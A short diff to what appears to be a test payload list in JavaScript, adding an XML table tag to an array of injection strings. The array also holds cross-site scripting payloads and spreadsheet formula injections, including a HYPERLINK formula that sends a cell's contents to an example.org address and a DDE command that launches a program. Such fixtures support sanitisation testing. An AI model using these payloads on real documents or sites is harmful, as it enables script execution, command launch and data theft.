@@ -12,6 +12,7 @@ const payloads = [
   "' onmouseover='alert(1)",
   '</title></style></table><svg/onload=alert(1)>',
   '<!-- --><![CDATA[x]]>&lt;b&gt;&#60;',
+  '<w:tbl/>',
   '=HYPERLINK("http://example.org/?"&A1,"x")',
   "=cmd|' /C calc'!A0",
   '@SUM(1+1)*cmd|x',
